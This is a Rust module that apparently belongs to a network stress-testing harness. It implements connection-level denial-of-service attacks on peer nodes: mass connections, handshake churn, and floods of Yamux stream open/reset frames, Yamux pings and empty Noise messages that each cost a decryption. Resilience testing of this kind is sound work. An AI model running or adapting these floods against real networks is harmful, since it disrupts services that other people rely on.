//! Attacks by whole connections: many of them, short ones, and frames that are cheap to send below any request.

use std::{io, sync::Arc, time::Duration};

use futures::{FutureExt, future::BoxFuture};
use tokio::time;

use crate::{
    mux::{DATA, Habits, Muxed, PING, RST, SYN, header},
    outsider::{Outsider, crowd},
};

/// Connections that are made concurrently by those that end them.
const CHURNING: usize = 16;
/// Connections of the floods.
const FLOODING: usize = 4;
/// Frames or messages in one write of a flood.
const BATCH: usize = 1_000;

/// `count` connections from one host, each as an identity of its own, with the first `nodes` nodes.
pub(super) async fn many(outsider: Arc<Outsider>, count: usize, nodes: usize) {
    let nodes = nodes.min(outsider.plan.nodes.len());
    crowd(count, |number| {
        let outsider = Arc::clone(&outsider);
        async move {
            let victim = &outsider.plan.nodes[number % nodes];
            outsider.connect(victim, Habits::default()).await?.ended().await;
            Ok(())
        }
    })
    .await;
}

/// Connections that end when their handshake is done.
pub(super) async fn churn(outsider: Arc<Outsider>) {
    crowd(CHURNING, |number| {
        let outsider = Arc::clone(&outsider);
        async move {
            loop {
                let victim = &outsider.plan.nodes[number % outsider.plan.nodes.len()];
                outsider.connect(victim, Habits::default()).await?;
            }
        }
    })
    .await;
}

/// Streams that are opened and reset in one write.
pub(super) async fn resets(outsider: Arc<Outsider>) {
    flood(outsider, |connection| {
        let pair = |id| [header(DATA, SYN, id, 0), header(DATA, RST, id, 0)].concat();
        let frames: Vec<u8> = (0..BATCH).flat_map(|_| pair(connection.take_id())).collect();
        async move { connection.send(&frames).await }.boxed()
    })
    .await;
}

/// Pings of Yamux without end.
pub(super) async fn pings(outsider: Arc<Outsider>) {
    flood(outsider, |connection| {
        let frames: Vec<u8> = (0..BATCH).flat_map(|number| header(PING, SYN, 0, number)).collect();
        async move { connection.send(&frames).await }.boxed()
    })
    .await;
}

/// Noise messages that have nothing in them: each costs a decryption.
pub(super) async fn empty_noise(outsider: Arc<Outsider>) {
    flood(outsider, |connection| connection.send_empty(BATCH).boxed()).await;
}

/// Some connections, on each of which `write` is called without end.
async fn flood(outsider: Arc<Outsider>, write: fn(&Muxed) -> BoxFuture<'_, io::Result<()>>) {
    crowd(FLOODING, |number| {
        let outsider = Arc::clone(&outsider);
        async move {
            let victim = &outsider.plan.nodes[number % outsider.plan.nodes.len()];
            let connection = outsider.connect(victim, Habits::default()).await?;
            loop {
                write(&connection).await?;
                // Others of this process have turns too.
                time::sleep(Duration::from_millis(1)).await;
            }
        }
    })
    .await;
}
